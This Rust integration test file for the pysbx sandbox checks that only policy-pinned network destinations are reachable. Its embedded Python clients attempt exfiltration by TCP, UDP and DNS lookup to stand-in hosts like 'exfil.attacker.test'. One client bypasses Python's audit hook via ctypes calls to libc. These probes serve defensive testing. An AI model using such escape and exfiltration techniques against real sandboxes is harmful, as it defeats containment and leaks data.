//! Per-host network: names pysbx pins from the policy's host map, a namespace of the sandbox's
//! own in which only the pinned destinations exist, and the supervisor relaying them. Hosts on
//! loopback addresses stand in for the internet: 127.0.0.2 is the allowed host, 127.0.0.3 and
//! 127.0.0.1 are others. Each listener reports what reaches it, so a refusal is observed from
//! outside the sandbox, not only by the program's own account.

use std::net::{TcpListener, UdpSocket};
use std::sync::mpsc;
use std::time::Duration;

use crate::exec_support::{
    Scratch, exec_with_events, run, sandbox_processes, stderr, stdout, tier_layer,
};

/// A TCP listener on `addr:port` that passes on what each connection sent, then answers `pong`.
fn tcp_host(addr: &str, port: u16) -> Option<mpsc::Receiver<String>> {
    crate::exec_support::tcp_host(addr, port, b"pong").map(|(_, rx)| rx)
}

/// A UDP socket that passes on each datagram and answers `pong` to its sender.
fn udp_host(addr: &str) -> (u16, mpsc::Receiver<String>) {
    let sock = UdpSocket::bind((addr, 0)).expect("bind udp");
    let port = sock.local_addr().expect("addr").port();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        while let Ok((n, from)) = sock.recv_from(&mut buf) {
            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = sock.send_to(b"pong", from);
        }
    });
    (port, rx)
}

/// One port with a listener on 127.0.0.1, 127.0.0.2 and 127.0.0.3 each.
fn three_hosts() -> (u16, [mpsc::Receiver<String>; 3]) {
    for _ in 0..50 {
        let probe = TcpListener::bind("127.0.0.2:0").expect("bind");
        let port = probe.local_addr().expect("addr").port();
        drop(probe);
        if let (Some(a), Some(b), Some(c)) =
            (tcp_host("127.0.0.1", port), tcp_host("127.0.0.2", port), tcp_host("127.0.0.3", port))
        {
            return (port, [a, b, c]);
        }
    }
    panic!("no port free on the three loopback addresses");
}

fn policy(s: &Scratch, port: u16, udp_port: u16, ffi: bool) -> std::path::PathBuf {
    s.write(
        "p.yaml",
        &format!(
            "net:\n  allow: [\"api.test:{port}\", \"localhost:{port}\", \"udp:dns.test:{udp_port}\"]\n\
             hosts:\n  api.test: [\"127.0.0.2\"]\n  other.test: [\"127.0.0.3\"]\n  dns.test: [\"127.0.0.2\"]\n\
             ffi: {ffi}\n"
        ),
    )
}

/// Client functions through the guard: each says what happened to one connection or datagram.
const GUARD_CLIENT: &str = r#"import socket, sys

def tcp(host, port):
    try:
        with socket.create_connection((host, port), timeout=5) as s:
            s.sendall(("hello " + host).encode())
            return "ok " + s.recv(4).decode()
    except PermissionError:
        return "refused"
    except OSError as e:
        return "error " + type(e).__name__

def udp(host, port):
    # A connected socket: the kernel drops an answer from any address but the one written to.
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            s.connect((host, port))
            s.send(b"ping " + host.encode())
            return "ok " + s.recv(4).decode()
    except PermissionError:
        return "refused"
    except OSError as e:
        return "error " + type(e).__name__
"#;

/// Client functions around the guard: `ctypes` calls the C library's `connect`, `sendto` and
/// `getaddrinfo` directly, which no audit hook sees.
const RAW_CLIENT: &str = r#"import ctypes, errno, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)

def sockaddr(ip, p):
    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", p) + socket.inet_aton(ip) + bytes(8)

def why():
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))

def tcp(ip, port):
    s = socket.socket()
    addr = sockaddr(ip, port)
    if libc.connect(s.fileno(), addr, len(addr)) != 0:
        # A relay's reset may arrive before `connect` returns, or after: the same refusal.
        return "reset" if why() == "ECONNRESET" else "refused " + why()
    data = b"raw " + ip.encode()
    libc.send(s.fileno(), data, len(data), 0)
    buf = ctypes.create_string_buffer(8)
    n = libc.recv(s.fileno(), buf, 8, 0)
    return ("ok " + buf.raw[:n].decode()) if n > 0 else "reset"

def udp(ip, p, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    addr = sockaddr(ip, p)
    n = libc.sendto(s.fileno(), data, len(data), 0, addr, len(addr))
    return "sent" if n == len(data) else "refused " + why()

class AddrInfo(ctypes.Structure):
    pass
AddrInfo._fields_ = [("flags", ctypes.c_int), ("family", ctypes.c_int), ("socktype", ctypes.c_int),
                     ("protocol", ctypes.c_int), ("addrlen", ctypes.c_uint32),
                     ("addr", ctypes.c_void_p), ("canonname", ctypes.c_char_p),
                     ("next", ctypes.POINTER(AddrInfo))]

def lookup(name):
    res = ctypes.POINTER(AddrInfo)()
    rc = libc.getaddrinfo(name.encode(), None, None, ctypes.byref(res))
    return "answered" if rc == 0 else "no answer"
"#;

/// A program: the client functions, then what it does with them.
fn program(client: &str, body: &str) -> String {
    format!("{client}\n{body}")
}

const THROUGH_THE_GUARD: &str = r#"port, udp_port, other_udp = (int(a) for a in sys.argv[1:4])
print("allowed name", tcp("api.test", port))
print("allowed address", tcp("127.0.0.2", port))
print("other name", tcp("other.test", port))
print("other address", tcp("127.0.0.3", port))
print("loopback name", tcp("localhost", port))
print("unknown name", tcp("exfil-secret.attacker.test", port))
print("allowed udp", udp("dns.test", udp_port))
print("other udp", udp("127.0.0.3", other_udp))
"#;

#[test]
fn only_pinned_destinations_are_reached() {
    let (port, [one, two, three]) = three_hosts();
    let (udp_port, udp_two) = udp_host("127.0.0.2");
    let (other_udp, udp_three) = udp_host("127.0.0.3");
    let s = Scratch::new();
    let p = policy(&s, port, udp_port, false);
    let main = s.write("main.py", &program(GUARD_CLIENT, THROUGH_THE_GUARD));
    let events = s.path().join("events.jsonl");
    let out = exec_with_events(
        &s,
        &p,
        &events,
        &main,
        &[port.to_string(), udp_port.to_string(), other_udp.to_string()],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "allowed name ok pong\nallowed address ok pong\nother name refused\nother address refused\n\
         loopback name error gaierror\nunknown name refused\nallowed udp ok pong\nother udp refused\n",
        "{}",
        stderr(&out)
    );
    // The machine's resolver said `localhost` is 127.0.0.1; pysbx refused the answer.
    assert!(
        stderr(&out).contains("`localhost` resolved to 127.0.0.1, a loopback address; refused"),
        "{}",
        stderr(&out)
    );
    std::thread::sleep(Duration::from_millis(200));
    let got: Vec<String> = two.try_iter().collect();
    assert_eq!(got, vec!["hello api.test".to_string(), "hello 127.0.0.2".to_string()]);
    assert_eq!(one.try_iter().count(), 0);
    assert_eq!(three.try_iter().count(), 0);
    assert_eq!(udp_two.try_iter().collect::<Vec<_>>(), vec!["ping dns.test".to_string()]);
    assert_eq!(udp_three.try_iter().count(), 0);
    let net = tier_layer(&events, "namespace.net");
    assert_eq!(net["state"], "applied", "{net}");
    assert!(net["detail"].as_str().unwrap_or("").contains("relayed by pysbx"), "{net}");
    assert!(sandbox_processes().is_empty());
}

/// The same destinations with the guard out of the way: `ctypes` calls the C library's
/// `connect`, `sendto` and `getaddrinfo` directly, which no audit hook sees. Only the kernel
/// and the relay stand between the program and the hosts.
const AROUND_THE_GUARD: &str = r#"port, udp_port, other_udp = (int(a) for a in sys.argv[1:4])
print("allowed", tcp("127.0.0.2", port))
print("other", tcp("127.0.0.3", port))
print("loopback", tcp("127.0.0.1", port))
print("udp to another host", udp("127.0.0.3", other_udp, b"exfil udp"))
print("udp to another port of the allowed host", udp("127.0.0.2", other_udp, b"exfil port"))
print("dns exfiltration", lookup("exfil-secret.attacker.test"))
"#;

#[test]
fn the_kernel_holds_without_the_guard() {
    let (port, [one, two, three]) = three_hosts();
    let (udp_port, udp_two) = udp_host("127.0.0.2");
    let (other_udp, udp_three) = udp_host("127.0.0.3");
    let s = Scratch::new();
    let p = policy(&s, port, udp_port, true);
    let main = s.write("main.py", &program(RAW_CLIENT, AROUND_THE_GUARD));
    let out = run(s.exec().arg("--no-gate").arg("--policy").arg(&p).arg(&main).arg("--").args([
        port.to_string(),
        udp_port.to_string(),
        other_udp.to_string(),
    ]));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.first().copied(), Some("allowed ok pong"), "{text}\n{}", stderr(&out));
    // Inside the namespace 127.0.0.3 and 127.0.0.1 exist only as the sandbox's own loopback,
    // where nothing listens on that port.
    assert_eq!(lines.get(1).copied(), Some("other refused ECONNREFUSED"), "{text}");
    assert_eq!(lines.get(2).copied(), Some("loopback refused ECONNREFUSED"), "{text}");
    // A datagram may leave the socket, but nothing carries it out of the namespace.
    assert!(lines.get(3).is_some_and(|l| l.starts_with("udp to another host ")), "{text}");
    assert!(lines.get(4).is_some_and(|l| l.starts_with("udp to another port ")), "{text}");
    assert_eq!(lines.get(5).copied(), Some("dns exfiltration no answer"), "{text}");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(two.try_iter().collect::<Vec<_>>(), vec!["raw 127.0.0.2".to_string()]);
    assert_eq!(one.try_iter().count(), 0);
    assert_eq!(three.try_iter().count(), 0);
    assert_eq!(udp_two.try_iter().count(), 0);
    assert_eq!(udp_three.try_iter().count(), 0);
    assert!(sandbox_processes().is_empty());
}

#[test]
fn a_rule_for_any_port_keeps_the_host_network_and_says_so() {
    let s = Scratch::new();
    let p = s.write("p.yaml", "net:\n  allow: [\"127.0.0.2:*\"]\n");
    let events = s.path().join("events.jsonl");
    let out =
        run(s.exec().arg("--policy").arg(&p).arg("--events").arg(&events).args(["-c", "pass"]));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let net = tier_layer(&events, "namespace.net");
    assert_eq!(net["state"], "skipped", "{net}");
    assert!(net["detail"].as_str().unwrap_or("").contains("any host or any port"), "{net}");
}

/// Without root: pysbx runs as uid 65534 with Debian's interpreter; the namespace belongs to
/// the sandbox's user namespace, and the relay still carries exactly the pinned destination.
#[test]
fn the_relay_works_without_root() {
    use std::os::unix::process::CommandExt;
    let (port, [one, two, three]) = three_hosts();
    let (udp_port, _udp_two) = udp_host("127.0.0.2");
    let (other_udp, _udp_three) = udp_host("127.0.0.3");
    let s = Scratch::new();
    let p = policy(&s, port, udp_port, false);
    let main = s.write("main.py", &program(GUARD_CLIENT, THROUGH_THE_GUARD));
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pysbx"))
        .current_dir(s.path())
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", "/nonexistent")
        .uid(65534)
        .gid(65534)
        .args([
            "exec",
            "--no-config",
            "--no-gate",
            "-v",
            "--python",
            "/usr/bin/python3",
            "--policy",
        ])
        .arg(&p)
        .arg(&main)
        .arg("--")
        .args([port.to_string(), udp_port.to_string(), other_udp.to_string()])
        .output()
        .expect("pysbx runs");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(
        text.starts_with("allowed name ok pong\nallowed address ok pong\nother name refused\n"),
        "{text}"
    );
    assert!(text.contains("allowed udp ok pong\n"), "{text}");
    assert!(stderr(&out).contains("relayed by pysbx"), "{}", stderr(&out));
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(two.try_iter().count(), 2);
    assert_eq!(one.try_iter().count(), 0);
    assert_eq!(three.try_iter().count(), 0);
}

/// A block wider than one address: one wildcard listener on the port, and the supervisor checks
/// each destination. Around the guard, a connection into the block arrives; one to an address
/// outside it (the sandbox's own 127.0.0.1) is reset by the relay and recorded.
#[test]
fn a_block_is_checked_by_the_relay() {
    let (port, [one, two, three]) = three_hosts();
    let s = Scratch::new();
    let p = s.write("p.yaml", &format!("net:\n  allow: [\"127.0.0.2/31:{port}\"]\nffi: true\n"));
    let main = s.write(
        "main.py",
        &program(
            RAW_CLIENT,
            r#"port = int(sys.argv[1])
for ip in ("127.0.0.3", "127.0.0.1"):
    print(ip, tcp(ip, port))
"#,
        ),
    );
    let events = s.path().join("events.jsonl");
    let out = run(s
        .exec()
        .arg("--no-gate")
        .arg("--policy")
        .arg(&p)
        .arg("--events")
        .arg(&events)
        .arg(&main)
        .arg("--")
        .arg(port.to_string()));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "127.0.0.3 ok pong\n127.0.0.1 reset\n", "{}", stderr(&out));
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(three.try_iter().collect::<Vec<_>>(), vec!["raw 127.0.0.3".to_string()]);
    assert_eq!(one.try_iter().count(), 0);
    assert_eq!(two.try_iter().count(), 0);
    let text = std::fs::read_to_string(&events).expect("events file");
    let refused: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).expect("JSON line"))
        .filter(|v| v["type"] == "event" && v["operation"] == "relay")
        .collect();
    assert_eq!(refused.len(), 1, "{text}");
    assert!(refused[0]["message"].as_str().unwrap_or("").contains("127.0.0.1"), "{}", refused[0]);
}

/// A DNS server standing in for the policy's `net.resolver`: answers the names of `zone` with
/// their addresses (A records), others with "no such name", and passes on every name it was
/// asked, so a test sees which lookups left the sandbox.
fn upstream_dns(zone: &'static [(&'static str, [u8; 4])]) -> (u16, mpsc::Receiver<String>) {
    use simple_dns::rdata::{A, RData};
    use simple_dns::{CLASS, Packet, QTYPE, RCODE, ResourceRecord, TYPE};
    let sock = UdpSocket::bind("127.0.0.1:0").expect("bind dns");
    let port = sock.local_addr().expect("addr").port();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 1024];
        while let Ok((n, from)) = sock.recv_from(&mut buf) {
            let Ok(query) = Packet::parse(&buf[..n]) else { continue };
            let Some(question) = query.questions.first().cloned() else { continue };
            let name = question.qname.to_string().trim_end_matches('.').to_owned();
            let _ = tx.send(name.clone());
            let mut reply = Packet::new_reply(query.id());
            match zone.iter().find(|(n, _)| *n == name) {
                Some((_, ip)) if question.qtype == QTYPE::TYPE(TYPE::A) => {
                    reply.answers.push(ResourceRecord::new(
                        question.qname.clone(),
                        CLASS::IN,
                        60,
                        RData::A(A { address: u32::from_be_bytes(*ip) }),
                    ));
                }
                Some(_) => {}
                None => *reply.rcode_mut() = RCODE::NameError,
            }
            reply.questions.push(question);
            let _ = sock.send_to(&reply.build_bytes_vec().expect("reply"), from);
        }
    });
    (port, rx)
}

const WILDCARD_ZONE: &[(&str, [u8; 4])] = &[
    ("a.wild.test", [127, 0, 0, 2]),
    ("u.wild.test", [127, 0, 0, 2]),
    ("c.wild.test", [127, 0, 0, 2]),
    ("inner.wild.test", [10, 1, 2, 3]),
    ("exfil.attacker.test", [127, 0, 0, 3]),
];

/// `*.wild.test`: names under it are resolved while the program runs, by pysbx asking the
/// policy's resolver. 127.0.0.2 is named in `hosts:` (under a name no rule allows) only so that
/// the resolver's loopback answer is not refused as one; nothing else allows it.
/// UDP hosts on 127.0.0.2 and 127.0.0.3 sharing one port.
/// The next thing a test host's thread reports, waited for up to ten seconds.
fn received(host: &mpsc::Receiver<String>) -> Option<String> {
    host.recv_timeout(Duration::from_secs(10)).ok()
}

fn two_udp_hosts() -> (u16, mpsc::Receiver<String>, mpsc::Receiver<String>) {
    for _ in 0..50 {
        let (port, two) = udp_host("127.0.0.2");
        if let Ok(sock) = UdpSocket::bind(("127.0.0.3", port)) {
            let (tx, three) = mpsc::channel();
            std::thread::spawn(move || {
                let mut buf = [0u8; 512];
                while let Ok((n, from)) = sock.recv_from(&mut buf) {
                    let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
                    let _ = sock.send_to(b"pong", from);
                }
            });
            return (port, two, three);
        }
    }
    panic!("no UDP port free on both loopback addresses");
}

fn wildcard_policy(
    s: &Scratch,
    port: u16,
    udp_port: u16,
    dns_port: u16,
    ffi: bool,
) -> std::path::PathBuf {
    s.write(
        "p.yaml",
        &format!(
            "net:\n  allow: [\"*.wild.test:{port}\", \"udp:*.wild.test:{udp_port}\"]\n  resolver: \"127.0.0.1:{dns_port}\"\n\
             hosts:\n  loopback-answers-allowed.invalid: [\"127.0.0.2\"]\nffi: {ffi}\n"
        ),
    )
}

const WILDCARD_THROUGH_THE_GUARD: &str = r#"port, udp_port = int(sys.argv[1]), int(sys.argv[2])
print("name under the wildcard", tcp("a.wild.test", port))
print("its address", tcp("127.0.0.2", port))
print("another address", tcp("127.0.0.3", port))
print("name answered in a private range", tcp("inner.wild.test", port))
print("the suffix itself", tcp("wild.test", port))
print("name outside the wildcard", tcp("exfil.attacker.test", port))
print("udp to a name under the wildcard", udp("u.wild.test", udp_port))
print("udp to another address", udp("127.0.0.3", udp_port))
"#;

#[test]
fn wildcard_names_are_resolved_by_pysbx_during_the_run() {
    let (port, [one, two, three]) = three_hosts();
    let (udp_port, udp_two, udp_three) = two_udp_hosts();
    let (dns_port, asked) = upstream_dns(WILDCARD_ZONE);
    let s = Scratch::new();
    let p = wildcard_policy(&s, port, udp_port, dns_port, false);
    let main = s.write("main.py", &program(GUARD_CLIENT, WILDCARD_THROUGH_THE_GUARD));
    let events = s.path().join("events.jsonl");
    let out = exec_with_events(&s, &p, &events, &main, &[port.to_string(), udp_port.to_string()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "name under the wildcard ok pong\nits address ok pong\nanother address refused\n\
         name answered in a private range error gaierror\nthe suffix itself refused\n\
         name outside the wildcard refused\nudp to a name under the wildcard ok pong\n\
         udp to another address refused\n",
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("`inner.wild.test` resolved to 10.1.2.3, a private address; refused"),
        "{}",
        stderr(&out)
    );
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(
        two.try_iter().collect::<Vec<_>>(),
        vec!["hello a.wild.test".to_string(), "hello 127.0.0.2".to_string()]
    );
    assert_eq!(one.try_iter().count(), 0);
    assert_eq!(three.try_iter().count(), 0);
    assert_eq!(udp_two.try_iter().collect::<Vec<_>>(), vec!["ping u.wild.test".to_string()]);
    assert_eq!(udp_three.try_iter().count(), 0);
    // Only names under the wildcard were ever asked of the resolver.
    let names: Vec<String> = asked.try_iter().collect();
    assert!(names.iter().all(|n| n.ends_with(".wild.test")), "{names:?}");
    assert!(names.iter().any(|n| n == "a.wild.test"), "{names:?}");
    let net = tier_layer(&events, "namespace.net");
    assert_eq!(net["state"], "applied", "{net}");
    assert!(net["detail"].as_str().unwrap_or("").contains("pysbx's DNS server"), "{net}");
    assert!(sandbox_processes().is_empty());
}

#[test]
fn wildcard_names_hold_without_the_guard() {
    let (port, [one, two, three]) = three_hosts();
    let (udp_port, udp_two, udp_three) = two_udp_hosts();
    let (dns_port, asked) = upstream_dns(WILDCARD_ZONE);
    let s = Scratch::new();
    let p = wildcard_policy(&s, port, udp_port, dns_port, true);
    let main = s.write(
        "main.py",
        &program(
            RAW_CLIENT,
            r#"port, udp_port = int(sys.argv[1]), int(sys.argv[2])
print("address before any lookup", tcp("127.0.0.2", port))
print("udp before any lookup", udp("127.0.0.2", udp_port, b"early"))
print("exfiltration by lookup", lookup("exfil.attacker.test"))
print("name under the wildcard", lookup("c.wild.test"))
print("its address after the lookup", tcp("127.0.0.2", port))
print("another address", tcp("127.0.0.3", port))
print("udp name under the wildcard", lookup("u.wild.test"))
print("udp after the lookup", udp("127.0.0.2", udp_port, b"late"))
print("udp to another address", udp("127.0.0.3", udp_port, b"exfil"))
"#,
        ),
    );
    let events = s.path().join("events.jsonl");
    let out = exec_with_events(&s, &p, &events, &main, &[port.to_string(), udp_port.to_string()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "address before any lookup reset\nudp before any lookup sent\n\
         exfiltration by lookup no answer\n\
         name under the wildcard answered\nits address after the lookup ok pong\n\
         another address reset\nudp name under the wildcard answered\n\
         udp after the lookup sent\nudp to another address sent\n",
        "{}",
        stderr(&out)
    );
    // What the hosts' threads received is waited for (a loaded machine may run them late),
    // then a pause lets anything that should not have arrived show.
    assert_eq!(received(&two), Some("raw 127.0.0.2".to_string()));
    // A datagram reaches the host only once pysbx has resolved a name to its address (the
    // first name under the wildcard, c.wild.test, did: it falls under both rules).
    assert_eq!(received(&udp_two), Some("late".to_string()));
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(two.try_iter().count(), 0);
    assert_eq!(one.try_iter().count(), 0);
    assert_eq!(three.try_iter().count(), 0);
    assert_eq!(udp_two.try_iter().count(), 0);
    assert_eq!(udp_three.try_iter().count(), 0);
    // The lookup outside the wildcard never left the sandbox.
    let names: Vec<String> = asked.try_iter().collect();
    assert!(!names.iter().any(|n| n.contains("attacker")), "{names:?}");
    // The refused lookup and the two reset connections are violations on record.
    let text = std::fs::read_to_string(&events).expect("events");
    assert!(text.contains("name lookup of exfil.attacker.test"), "{text}");
    let relayed = text.lines().filter(|l| l.contains("relay refused a TCP connection")).count();
    assert_eq!(relayed, 2, "{text}");
    let dropped = text.lines().filter(|l| l.contains("relay dropped a UDP datagram")).count();
    assert_eq!(dropped, 2, "{text}");
}

#[test]
fn wildcard_names_work_without_root() {
    use std::os::unix::process::CommandExt;
    let (port, [_one, two, _three]) = three_hosts();
    let (udp_port, udp_two, _udp_three) = two_udp_hosts();
    let (dns_port, _asked) = upstream_dns(WILDCARD_ZONE);
    let s = Scratch::new();
    let p = wildcard_policy(&s, port, udp_port, dns_port, false);
    let main = s.write("main.py", &program(GUARD_CLIENT, WILDCARD_THROUGH_THE_GUARD));
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pysbx"))
        .current_dir(s.path())
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", "/nonexistent")
        .uid(65534)
        .gid(65534)
        .args(["exec", "--no-config", "--no-gate", "--python", "/usr/bin/python3", "--policy"])
        .arg(&p)
        .arg(&main)
        .arg("--")
        .args([port.to_string(), udp_port.to_string()])
        .output()
        .expect("pysbx runs");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(
        text.starts_with(
            "name under the wildcard ok pong\nits address ok pong\nanother address refused\n"
        ),
        "{text}\n{}",
        stderr(&out)
    );
    assert!(text.contains("udp to a name under the wildcard ok pong\n"), "{text}");
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(two.try_iter().count(), 2);
    assert_eq!(udp_two.try_iter().count(), 1);
}
